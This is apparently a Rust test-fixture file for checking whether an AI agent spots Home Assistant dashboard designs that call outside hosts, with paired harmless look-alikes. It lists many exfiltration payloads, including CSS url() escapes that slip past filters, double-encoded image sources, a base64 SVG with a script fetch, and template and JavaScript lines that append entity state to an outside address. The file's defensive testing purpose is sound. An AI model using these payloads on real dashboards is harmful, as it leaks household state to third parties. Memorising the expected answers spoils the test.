//! Every way out of a browser that a dashboard could take (R37), each with the answer that the agent must give.

use base64::prelude::{BASE64_STANDARD, Engine};
use serde_json::{Value, json};

/// What the agent must say of a design.
#[derive(Debug, Clone, Copy)]
pub(super) enum Answer {
    /// Calls this host, which is refused unless the owner allows it.
    Host,
    /// Calls some host: which, only the browser knows. Refused as well.
    AnyHost,
    /// Runs code in the browser; the subject.
    Code(&'static str),
    /// Uses a custom card, which is code as well.
    Card,
}

/// A way out.
pub(super) struct Channel {
    pub(super) name: &'static str,
    pub(super) answer: Answer,
    /// What is clicked, if somebody has to click.
    pub(super) click: Option<&'static str>,
    /// Versions of Home Assistant, by how they begin, in which it leads out by hand.
    pub(super) leads_out: &'static [&'static str],
    /// The dashboard's contents.
    pub(super) contents: Value,
}

const BOTH: &[&str] = &["2024.", "2026."];
const OLD: &[&str] = &["2024."];
const NEW: &[&str] = &["2026."];
/// Something to put things on that is always there.
const ICON: &str = "/static/icons/favicon-192x192.png";
const BUTTON: &str = "hui-button-card ha-card";
const LINK: &str = "ha-markdown a";

/// All of them; `host` gives each its own.
pub(super) fn channels(host: impl Fn(&str) -> String) -> Vec<Channel> {
    use Answer::{AnyHost, Card, Code, Host};
    let channel = |name: &'static str, answer, contents: &dyn Fn(&str) -> Value| {
        let contents = contents(&host(name));
        Channel { name, answer, click: None, leads_out: BOTH, contents }
    };
    let touched = |click: &'static str, channel: Channel| Channel { click: Some(click), ..channel };
    let only = |leads_out, channel: Channel| Channel { leads_out, ..channel };
    vec![
        channel("md-image", Host, &|h| markdown(&format!("![x](http://{h}/x)"))),
        channel("md-tag", Host, &|h| markdown(&format!("<img src=\"//{h}/x\">"))),
        // The filter resolves the first reference, the browser the second.
        channel("md-twice", Host, &|h| markdown(&format!("<img src=\"/&#38;#47;{h}/x\">"))),
        channel("md-video", Host, &|h| markdown(&format!("<video src=\"//{h}/x\" autoplay></video>"))),
        channel("md-code", Host, &|h| {
            markdown(&format!("<ha-qr-code data=\"x\" center-image=\"//{h}/x\"></ha-qr-code>"))
        }),
        channel("md-template", Code("template"), &|h| {
            markdown(&format!("![x]({{{{ 'ht' ~ 'tp:' ~ '/' ~ '/' ~ '{h}' ~ '/' ~ states('sun.sun') }}}})"))
        }),
        touched(LINK, channel("md-link", Host, &|h| markdown(&format!("[x](//{h}/x)")))),
        touched(LINK, channel("md-bare", Host, &|h| markdown(&format!("See www.{h}?x")))),
        touched(
            LINK,
            channel("md-state", AnyHost, &|h| markdown(&format!("www.{{{{ states('sun.sun') }}}}.{h}"))),
        ),
        channel("picture", Host, &|h| card(json!({"type": "picture", "image": format!("http://{h}/x")}))),
        channel("entity", Host, &|h| {
            let image = format!("//{h}/x");
            let images = json!({"above_horizon": image, "below_horizon": image});
            card(json!({"type": "picture-entity", "entity": "sun.sun", "state_image": images}))
        }),
        channel("glance", Host, &|h| {
            card(json!({"type": "picture-glance", "image": format!("//{h}/x"), "entities": ["sun.sun"]}))
        }),
        channel("element", Host, &|h| elements(json!({"type": "image", "image": format!("//{h}/x")}))),
        channel("style", Host, &|h| {
            elements(
                json!({"type": "icon", "icon": "mdi:home", "style": {"background": format!("url(//{h}/x)")}}),
            )
        }),
        channel("style-escape", Host, &|h| {
            let style = format!("u\\72l(\\2f\\2f {h}/x)");
            elements(json!({"type": "icon", "icon": "mdi:home", "style": {"background": style}}))
        }),
        channel("background", Host, &|h| view(json!({"background": format!("center url(http://{h}/x)")}))),
        channel("background-escape", Host, &|h| {
            view(json!({"background": format!("center u\\72l(\\2f\\2f {h}/x)")}))
        }),
        only(
            NEW,
            channel("background-image", Host, &|h| {
                view(json!({"background": {"image": format!("//{h}/x")}}))
            }),
        ),
        // Out of the address that Home Assistant puts around it.
        only(
            NEW,
            channel("background-end", Host, &|h| {
                view(json!({"background": {"image": format!("/x#'),u\\72l('\\00002f\\00002f{h}/x")}}))
            }),
        ),
        only(
            NEW,
            channel("background-size", Host, &|h| {
                let size = format!("cover u\\72l('\\2f\\2f {h}/x'),center");
                view(json!({"background": {"image": ICON, "size": size}}))
            }),
        ),
        channel("header", Host, &|h| {
            let header = json!({"type": "picture", "image": format!("//{h}/x")});
            card(json!({"type": "entities", "entities": ["sun.sun"], "header": header}))
        }),
        channel("row", Host, &|h| {
            card(
                json!({"type": "entities", "entities": [{"entity": "sun.sun", "image": format!("//{h}/x")}]}),
            )
        }),
        channel("iframe", Host, &|h| card(json!({"type": "iframe", "url": format!("http://{h}/x")}))),
        only(
            OLD,
            channel("iframe-data", AnyHost, &|h| {
                card(
                    json!({"type": "iframe", "url": svg(&format!("<script>fetch('http://{h}/x')</script>"))}),
                )
            }),
        ),
        only(
            NEW,
            channel(
                "strategy",
                Host,
                &|h| json!({"strategy": {"type": "iframe", "url": format!("http://{h}/x")}}),
            ),
        ),
        touched(BUTTON, channel("tap", Host, &|h| button(&format!("http://{h}/x")))),
        // Everything before the sign is a name to log in with, and no host.
        touched(BUTTON, channel("tap-name", Host, &|h| button(&format!("http://harmless.example,@{h}/x")))),
        touched(
            "hui-weblink-row a",
            channel("weblink", Host, &|h| {
                card(
                    json!({"type": "entities", "entities": [{"type": "weblink", "url": format!("//{h}/x")}]}),
                )
            }),
        ),
        // Whether it is asked for says how the state is.
        channel("oracle", Host, &|h| {
            let conditions = json!([{"condition": "state", "entity": "sun.sun", "state_not": "elsewhere"}]);
            let picture = json!({"type": "picture", "image": format!("//{h}/x")});
            card(json!({"type": "conditional", "conditions": conditions, "card": picture}))
        }),
        channel("visibility", Host, &|h| {
            let conditions = json!([{"condition": "state", "entity": "sun.sun", "state_not": "elsewhere"}]);
            card(json!({"type": "picture", "image": format!("//{h}/x"), "visibility": conditions}))
        }),
        channel("custom", Card, &|h| {
            card(json!({"type": "custom:leak-card", "address": ["ht", "tp:", "/", "/", h, "/x"]}))
        }),
        channel("key", Host, &|h| {
            let mut picture = json!({"type": "custom:leak-card"});
            picture[format!("http://{h}/x")] = json!(1);
            card(picture)
        }),
        channel("button-code", Code("[[["), &|h| {
            let name = format!(
                "[[[ return fetch(['ht', 'tp:', '/', '/{h}/'].join('') + states['sun.sun'].state) ]]]"
            );
            card(json!({"type": "custom:button-card", "name": name}))
        }),
        channel("card-mod", Code("card_mod"), &|h| {
            let style = format!("ha-card {{ background: url(//{h}/x) }}");
            card(json!({"type": "markdown", "content": "styled", "card_mod": {"style": style}}))
        }),
    ]
}

/// A design that must pass as one that only displays, and of which nobody may hear.
pub(super) struct Harmless {
    pub(super) name: &'static str,
    pub(super) click: Option<&'static str>,
    pub(super) contents: Value,
}

/// What looks like a way out, or stands where one was, and is none.
pub(super) fn harmless(host: impl Fn(&str) -> String) -> Vec<Harmless> {
    let design = |name: &'static str, click: Option<&'static str>, card: &dyn Fn(&str) -> Value| {
        let marker = json!({"type": "markdown", "content": marker(name)});
        let contents = json!({"views": [{"title": name, "cards": [card(&host(name)), marker]}]});
        Harmless { name, click, contents }
    };
    vec![
        design("own-picture", None, &|_| json!({"type": "picture", "image": ICON})),
        // For a browser the host is a scheme, and for that there is no program.
        design("no-slashes", None, &|h| json!({"type": "picture", "image": format!("{h}/x")})),
        design("own-path", None, &|h| json!({"type": "picture", "image": format!("/local/{h}/x.png")})),
        // A picture may not load anything.
        design("drawing", None, &|h| {
            let inside = format!(
                "<image href='http://{h}/x' width='9' height='9'/><style>@import 'http://{h}/y'</style>"
            );
            json!({"type": "picture", "image": svg(&inside)})
        }),
        design(
            "state",
            None,
            &|_| json!({"type": "markdown", "content": "The sun is {{ states('sun.sun') }}."}),
        ),
        design("word", None, &|h| json!({"type": "markdown", "content": format!("`{h}` and **{h}**")})),
        design(
            "own-link",
            Some(LINK),
            &|h| json!({"type": "markdown", "content": format!("[a page](/{h}/x) ![a picture](/local/{h}.png)")}),
        ),
        design(
            "tags",
            None,
            &|h| json!({"type": "markdown", "content": format!("<b>{h}</b><br><ha-icon icon=\"mdi:home\"></ha-icon><img src=\"/{h}/x\">")}),
        ),
        design("letter", None, &|_| json!({"type": "markdown", "content": "somebody@letter.example"})),
        design("own-element", None, &|_| {
            let style = json!({"left": "50%", "top": "50%", "background": format!("url('{ICON}')")});
            json!({"type": "picture-elements", "image": ICON, "elements": [{"type": "icon", "icon": "mdi:home", "style": style}]})
        }),
        design("colour", None, &|h| json!({"type": "tile", "entity": "sun.sun", "color": h, "name": h})),
        design("navigate", Some(BUTTON), &|_| {
            let tap = json!({"action": "navigate", "navigation_path": "/config/dashboard"});
            json!({"type": "button", "name": "go", "show_icon": false, "tap_action": tap})
        }),
        design("own-page", Some(BUTTON), &|h| {
            let tap = json!({"action": "url", "url_path": format!("/{h}/x")});
            json!({"type": "button", "name": "go", "show_icon": false, "tap_action": tap})
        }),
        design("condition", None, &|_| {
            let conditions = json!([{"condition": "state", "entity": "sun.sun", "state_not": "elsewhere"}]);
            json!({"type": "conditional", "conditions": conditions, "card": {"type": "picture", "image": ICON}})
        }),
        {
            let contents = json!({"views": [{
                "title": "own-background", "background": format!("center / cover url('{ICON}')"),
                "cards": [{"type": "markdown", "content": marker("own-background")}],
            }]});
            Harmless { name: "own-background", click: None, contents }
        },
    ]
}

/// What stands in a harmless dashboard, so that it is known when it stands.
pub(super) fn marker(name: &str) -> String {
    format!("This is {name} itself")
}

fn card(card: Value) -> Value {
    json!({"views": [{"title": "x", "cards": [card]}]})
}

fn markdown(content: &str) -> Value {
    card(json!({"type": "markdown", "content": content}))
}

fn elements(element: Value) -> Value {
    card(json!({"type": "picture-elements", "image": ICON, "elements": [element]}))
}

fn view(mut view: Value) -> Value {
    view["title"] = json!("x");
    view["cards"] = json!([{"type": "markdown", "content": "in front"}]);
    json!({"views": [view]})
}

fn button(address: &str) -> Value {
    let tap = json!({"action": "url", "url_path": address});
    card(json!({"type": "button", "name": "go", "show_icon": false, "tap_action": tap}))
}

/// A drawing as a `data:` address without two slashes in it, which look like another address by chance.
fn svg(inside: &str) -> String {
    let mut svg = format!("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{inside}</svg>");
    loop {
        let encoded = BASE64_STANDARD.encode(&svg);
        if !encoded.contains("//") {
            return format!("data:image/svg+xml;base64,{encoded}");
        }
        svg = svg.replacen(" width", "  width", 1);
    }
}
